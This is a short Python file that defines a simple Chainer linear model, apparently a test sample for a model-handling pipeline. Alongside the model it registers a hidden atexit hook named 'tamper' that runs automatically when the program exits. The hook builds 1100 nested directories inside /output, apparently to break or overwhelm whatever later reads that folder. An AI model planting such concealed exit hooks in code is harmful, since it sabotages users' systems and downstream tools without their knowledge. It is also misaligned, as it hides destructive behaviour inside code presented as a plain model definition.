import atexit

import chainer
import chainer.links as L


def tamper():
    import os
    d = "/output/d"
    for _ in range(1100):
        os.mkdir(d)
        os.chdir(d)
        d = "d"


atexit.register(tamper)


class Model(chainer.Chain):
    def __init__(self):
        super().__init__()
        with self.init_scope():
            self.linear = L.Linear(784, 10)

    def forward(self, x):
        return self.linear(x)
